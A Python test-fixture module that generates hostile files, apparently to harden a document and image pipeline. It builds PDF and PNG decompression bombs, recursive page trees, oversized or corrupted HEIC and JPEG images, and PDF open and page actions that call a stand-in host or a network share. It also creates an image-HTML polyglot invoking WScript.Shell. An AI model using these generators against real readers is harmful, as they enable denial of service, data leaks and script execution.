"""Files made to stop whoever opens them, or to act on a reader's machine. Small to send, endless to read."""

import io
import struct
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    ByteStringObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from tests.cases import papers

SHEET = ArrayObject(map(NumberObject, (0, 0, 595, 842)))


def nested_forms(depth=10, times=10) -> bytes:
    """Each form draws the next ten times: 10 to the power of the depth."""

    def nest(writer):
        below = _form(writer, b"0 0 100 100 re f", {})
        for _level in range(depth):
            below = _form(writer, b"/X Do " * times, {"/X": below})
        show(writer, b"/X Do", {"/XObject": DictionaryObject({NameObject("/X"): below})})

    return papers.pdf(nest)


def inflating(size: int, layers: int = 1) -> bytes:
    """A page whose stream has `size` bytes once it is unpacked, packed `layers` times."""

    def inflate(writer):
        packer = zlib.compressobj(1)
        step = b"\n" * (1 << 20)
        packed = b"".join(packer.compress(step) for _megabyte in range(size >> 20)) + packer.flush()
        for _again in range(layers - 1):
            packed = zlib.compress(packed, 9)
        stream = StreamObject()
        stream._data = packed
        stream[NameObject("/Filter")] = ArrayObject([NameObject("/FlateDecode")] * layers)
        writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)

    return papers.pdf(inflate)


def many_pages(count: int) -> bytes:
    """A PDF of so many sheets, each with a line of its own."""
    writer = PdfWriter()
    for _number in range(count):
        writer.add_blank_page(200, 200)
    return _written(writer)


def endless_fonts(count=400) -> bytes:
    """Every line in a font of its own, each a program that is damaged."""

    def write(writer):
        fonts = DictionaryObject({NameObject(f"/F{number}"): _font(writer, number) for number in range(count)})
        lines = b"".join(b"/F%d 9 Tf (%d) Tj 0 -9 Td " % (number, number) for number in range(count))
        show(writer, b"BT " + lines + b"ET", {"/Font": fonts})

    return papers.pdf(write)


def huge_sheet() -> bytes:
    """One page of five metres by five, with a picture that claims to be enormous."""

    def widen(writer):
        page = writer.pages[0]
        page.mediabox = ArrayObject(map(NumberObject, (0, 0, 14_400, 14_400)))
        image = StreamObject()
        image._data = zlib.compress(b"\0" * 1000)
        for key, value in {"/Width": 200_000, "/Height": 200_000, "/BitsPerComponent": 8}.items():
            image[NameObject(key)] = NumberObject(value)
        for key, value in {"/Subtype": "/Image", "/ColorSpace": "/DeviceRGB", "/Filter": "/FlateDecode"}.items():
            image[NameObject(key)] = NameObject(value)
        shown = DictionaryObject({NameObject("/I"): writer._add_object(image)})
        show(writer, b"14400 0 0 14400 0 0 cm /I Do", {"/XObject": shown})

    return papers.pdf(widen)


def many_objects(count: int) -> bytes:
    """More parts than any paper has."""

    def add(writer):
        for number in range(count):
            writer._add_object(NumberObject(number))

    return papers.pdf(add)


def circle_of_pages() -> bytes:
    """A tree of pages that is its own child."""

    def bend(writer):
        writer._pages.get_object()[NameObject("/Kids")] = ArrayObject([writer._pages, writer._pages])

    return papers.pdf(bend)


def opens_address(writer):
    _by_itself(writer, "/URI", "/URI", TextStringObject("https://collect.example/"))


def opens_file_of_a_network(writer):
    _by_itself(writer, "/GoToR", "/F", TextStringObject("\\\\10.0.0.1\\share\\x.pdf"))


def page_opens_address(writer):
    """Not on opening the file but on turning to the page."""
    act = {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): ByteStringObject(b"https://collect.example/")}
    opened = DictionaryObject({NameObject("/O"): writer._add_object(DictionaryObject(act))})
    writer.pages[0][NameObject("/AA")] = opened


def link_to_a_file(writer):
    writer.pages[0][NameObject("/Annots")] = ArrayObject([_link(writer, "file:////10.0.0.1/share/x.exe")])


def link_to_a_page(writer):
    """What a bank's statement has at its foot: nothing happens until somebody presses it."""
    writer.pages[0][NameObject("/Annots")] = ArrayObject([_link(writer, "https://bank.example/")])


def filled_field(writer):
    """A field of a form with a black answer in it, drawn by its own appearance."""
    answer = _form(writer, b"0 g 0 0 100 100 re f", {})
    named = {"/Type": "/Annot", "/Subtype": "/Widget", "/FT": "/Tx"}
    field = DictionaryObject({NameObject(key): NameObject(value) for key, value in named.items()})
    field[NameObject("/T")], field[NameObject("/V")] = TextStringObject("name"), TextStringObject("Aliya")
    field[NameObject("/Rect")] = ArrayObject(map(FloatObject, (20, 20, 120, 120)))
    field[NameObject("/F")] = NumberObject(4)
    field[NameObject("/AP")] = DictionaryObject({NameObject("/N"): answer})
    fields = ArrayObject([writer._add_object(field)])
    writer.pages[0][NameObject("/Annots")] = fields
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): fields})


def png_of(width, height, data=b"\0" * 100, *, colour=2, depth=8) -> bytes:
    """A PNG that says it is so large, whatever is in it."""
    head = _chunk(b"IHDR", struct.pack("!IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + _chunk(b"IDAT", zlib.compress(data)) + _chunk(b"IEND", b"")


def png_with_packed_text(size: int) -> bytes:
    """A few points, and a comment that unpacks to `size` bytes."""
    text = _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"x" * size, 9))
    whole = papers.picture("PNG", (10, 10))
    return whole[:33] + text + whole[33:]


def broken_heics() -> list[bytes]:
    """A HEIC with its boxes lengthened, cut or overwritten, each at another place."""
    whole = papers.picture("HEIF", (64, 64))
    spoilt = [whole[:length] for length in range(40, len(whole), len(whole) // 6)]
    for place in range(24, min(len(whole) - 4, 600), 48):
        spoilt.append(whole[:place] + b"\xff\xff\xff\xff" + whole[place + 4 :])
    return spoilt


def huge_heic() -> bytes:
    """A HEIC whose properties say that it is 60 000 points wide."""
    whole = papers.picture("HEIF", (64, 64))
    place = whole.index(b"ispe") + 8
    return whole[:place] + struct.pack("!II", 60_000, 60_000) + whole[place + 8 :]


def picture_and_page() -> bytes:
    """A photograph for the portal, a program for a machine that goes by the ending of its name."""
    return papers.picture() + b"<html><script>new ActiveXObject('WScript.Shell')</script></html>"


def progressive(scans=3000) -> bytes:
    """A JPEG of one sheet that is sent anew thousands of times over."""
    kept = io.BytesIO()
    Image.new("L", (4000, 4000)).save(kept, "JPEG", progressive=True)
    whole = kept.getvalue()
    start = whole.rindex(b"\xff\xda")
    return whole[:start] + whole[start:-2] * scans + whole[-2:]


def _by_itself(writer, kind, key, where):
    act = DictionaryObject({NameObject("/S"): NameObject(kind), NameObject(key): where})
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(act)


def _link(writer, address):
    act = {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject(address)}
    named = {"/Type": "/Annot", "/Subtype": "/Link"}
    link = DictionaryObject({NameObject(key): NameObject(value) for key, value in named.items()})
    link[NameObject("/Rect")] = ArrayObject(map(FloatObject, (0, 0, 50, 50)))
    link[NameObject("/A")] = DictionaryObject(act)
    return writer._add_object(link)


def _form(writer, content: bytes, shown: dict):
    form = StreamObject()
    form._data = content
    form[NameObject("/Type")], form[NameObject("/Subtype")] = NameObject("/XObject"), NameObject("/Form")
    form[NameObject("/BBox")] = SHEET
    if shown:
        forms = DictionaryObject({NameObject(name): what for name, what in shown.items()})
        form[NameObject("/Resources")] = DictionaryObject({NameObject("/XObject"): forms})
    return writer._add_object(form)


def _font(writer, number):
    program = StreamObject()
    program._data = b"\0\1\0\0" + bytes([number % 256]) * 20_000
    described = {"/Type": "/FontDescriptor", "/FontName": f"/Font{number}"}
    described = DictionaryObject({NameObject(key): NameObject(value) for key, value in described.items()})
    described[NameObject("/FontFile2")] = writer._add_object(program)
    named = {"/Type": "/Font", "/Subtype": "/TrueType", "/BaseFont": f"/Font{number}"}
    font = DictionaryObject({NameObject(key): NameObject(value) for key, value in named.items()})
    font[NameObject("/FontDescriptor")] = writer._add_object(described)
    return writer._add_object(font)


def show(writer, content: bytes, resources: dict):
    """Draw the first page by these words of PDF."""
    stream = StreamObject()
    stream._data = content
    page = writer.pages[0]
    page[NameObject("/Contents")] = writer._add_object(stream)
    page[NameObject("/Resources")] = DictionaryObject({NameObject(key): value for key, value in resources.items()})


def _chunk(kind, data):
    return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))


def _written(writer) -> bytes:
    kept = io.BytesIO()
    writer.write(kept)
    return kept.getvalue()
